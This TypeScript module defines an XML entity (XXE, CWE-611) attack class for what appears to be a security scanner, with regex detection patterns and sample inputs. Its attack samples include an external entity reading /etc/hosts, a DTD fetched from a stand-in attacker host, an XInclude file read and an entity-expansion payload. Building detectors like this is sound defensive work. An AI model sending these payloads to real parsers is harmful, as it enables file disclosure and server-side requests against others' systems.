// Documents of XML that read files, open addresses or grow without end.

import { type AttackClass, firstOf } from '../kit.ts'

export const xmlEntities: AttackClass = {
  id: 'xml-entities',
  cwe: 'CWE-611',
  why: 'A parser that follows entities and inclusions of a document reads files and opens addresses for its sender.',
  triggers: ['<!', 'include', 'schemalocation', '<?xml'],
  find(_text, lower) {
    return firstOf(lower, shapes)
  },
  attacks: [
    '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hosts">]><r>&e;</r>',
    '<!DOCTYPE r SYSTEM "http://evil.example/a.dtd"><r/>',
    '<!ENTITY % p "x">',
    '<xi:include parse="text" href="file:///x"/>',
    '<!DOCTYPE l [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><l>&c;</l>',
  ],
  harmless: [
    '<?xml version="1.0"?><order><id>5</id></order>',
    '<!DOCTYPE html><p>x</p>',
    '<!-- a note -->',
    '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"/>',
  ],
}

const shapes: readonly (readonly [RegExp, string])[] = [
  [/<!entity\s/, 'an entity'],
  [
    /<!doctype\s[^>]{0,200}\b(?:system|public)\s{0,5}["'][^"']{0,200}["']\s{0,5}(?:\[|>)(?<!xhtml[^>]{0,60}>)|<!doctype\s[^[>]{0,100}\[\s{0,20}(?:<!|%)/,
    'a document type of its own',
  ],
  [/<!doctype\s{1,5}(?!html)[^>]{0,100}\bsystem\b/, 'a document type of its own'],
  [/<(?:xi|x|include)?:?include\b[^>]{0,200}\b(?:href|namespace|schemalocation)\s{0,3}=/, 'an inclusion'],
  [/<\w{0,8}:?include\b[^>]{0,100}\bhttp/, 'an inclusion'],
  [
    /xsi:(?:nonamespace)?schemalocation\s{0,3}=\s{0,3}["'][^"']{0,300}\b(?:https?|file|ftp):\/\/(?!www\.w3\.org|schemas\.|maven\.)[^"']{0,200}["']\s{0,3}\/?>/,
    'a schema from elsewhere',
  ],
  [/<!attlist\s|<!notation\s|encoding\s{0,2}=\s{0,2}["']utf-(?:7|16|32)/, 'a document type of its own'],
  [/<\?xml-stylesheet|<xsl:(?:stylesheet|value-of|template)|document\s?\(\s?["'](?:http|file)/, 'a style sheet that runs'],
]
